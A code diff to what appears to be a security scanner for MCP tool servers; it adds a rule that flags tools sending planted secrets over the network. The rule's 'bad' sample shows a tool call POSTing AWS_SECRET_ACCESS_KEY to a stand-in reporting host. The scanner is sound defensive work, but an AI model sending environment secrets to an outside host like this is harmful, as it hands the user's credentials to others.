@@ -34,6 +34,7 @@ import { differences } from "./stability.ts";
 import {
   aboutAccess,
   type Access,
+  attributed,
   doing,
   ordinary,
   placeOf,
@@ -189,7 +190,7 @@ export const securityRules = {
     *find(view) {
       const seen = new Set<string>();
       // What a tool says in the session of all tools it said before, in one of its own.
-      for (const probe of view.probes.filter(({ probe: name }) => name !== "all-tools")) {
+      for (const probe of attributed(view)) {
         for (const { seq, text, where } of saidIn(probe)) {
           const places = [...canariesIn(text), ...ownSecretsIn(text)].filter(
             (place) => !isAskedFor(place, probe),
@@ -199,6 +200,26 @@ export const securityRules = {
           const message = `${said}${probe.probe === "attack" ? ", which its arguments do not ask for" : ""}`;
           if (places.length === 0 || seen.has(key)) continue;
           seen.add(key);
+          yield { ...placeOf(probe), message, evidence: [seq] };
+        }
+      }
+    },
+  },
+  "security/secret-sent": {
+    severity: "error",
+    title: "A planted secret is sent over the network",
+    why: "Whoever receives it can act as the user. No answer shows it, so that neither the user nor the agent sees it.",
+    fix: "Send nothing that no argument of the tool contains; send no variables of the environment and no files with a report.",
+    bad: `→ tools/call report { }   (POST http://reports.example.com/ with AWS_SECRET_ACCESS_KEY=…)`,
+    good: `→ tools/call report { }   (POST http://reports.example.com/ with the report)`,
+    source: "https://owasp.org/www-project-mcp-top-10/",
+    weakness: { owasp: "MCP01", cwe: 201 },
+    *find(view) {
+      for (const probe of attributed(view)) {
+        for (const { seq, target, secrets } of eventsOf(probe.events, "secret.sent")) {
+          const places = secrets.filter((place) => !isAskedFor(place, probe));
+          if (places.length === 0) continue;
+          const message = `it sent the secret of ${places.join(", ")} to ${target}${when(probe)}`;
           yield { ...placeOf(probe), message, evidence: [seq] };
         }
       }
